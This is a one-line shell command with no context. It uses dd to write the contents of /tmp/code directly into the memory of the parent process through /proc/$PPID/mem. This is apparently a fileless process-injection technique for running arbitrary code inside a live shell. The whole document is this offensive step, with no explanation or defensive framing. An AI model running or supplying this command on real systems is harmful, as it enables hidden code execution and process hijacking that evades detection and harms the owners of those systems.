dd if=/tmp/code bs=1 seek=4096 conv=notrunc > /proc/$PPID/mem
